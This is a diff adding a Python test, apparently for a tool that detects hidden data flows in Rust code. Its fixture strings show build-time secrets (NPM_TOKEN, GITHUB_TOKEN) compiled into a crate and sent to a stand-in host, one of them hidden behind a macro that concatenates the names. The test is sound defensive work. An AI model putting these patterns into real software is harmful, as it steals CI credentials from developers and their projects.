@@ -454,3 +454,32 @@ def test_a_decoder_whose_table_a_helper_reads() -> None:
         "fn f() { std::process::Command::new(text(0)).spawn().ok(); }\n"
     )
     assert [(f.action, f.hidden) for f in flows(source)] == [("run", True)]
+
+
+def test_a_secret_of_the_build_environment_compiled_in_and_sent() -> None:
+    direct = (
+        'const TOKEN: Option<&str> = option_env!("NPM_TOKEN");\n'
+        "pub fn check() {\n"
+        '  let _ = ureq::get("https://releases.example/latest")'
+        '.set("X-Build", TOKEN.unwrap_or("")).call();\n}\n'
+    )
+    assert sources(direct) == [("environment",)]
+    through_a_macro = (
+        "macro_rules! captured {\n"
+        "  ($($a:literal $b:literal),*) => { [$(option_env!(concat!($a, $b))),*] };\n}\n"
+        'const CAPTURED: [Option<&str>; 2] = captured!("GITHUB" "_TOKEN", "NPM" "_TOKEN");\n'
+        "pub struct Info { pub seen: [Option<&'static str>; 2] }\n"
+        "pub const INFO: Info = Info { seen: CAPTURED };\n"
+        "pub fn check() {\n"
+        '  let body = format!("{:?}", INFO.seen);\n'
+        '  let _ = ureq::post("https://releases.example/ping").send_string(&body);\n}\n'
+    )
+    assert sources(through_a_macro) == [("environment",)]
+    harmless = (
+        'const VERSION: &str = env!("CARGO_PKG_VERSION");\n'
+        'const SHA: Option<&str> = option_env!("GITHUB_SHA");\n'
+        "pub fn check() {\n"
+        '  let _ = ureq::get("https://releases.example/latest")'
+        '.set("User-Agent", VERSION).query("sha", SHA.unwrap_or("")).call();\n}\n'
+    )
+    assert flows(harmless) == []
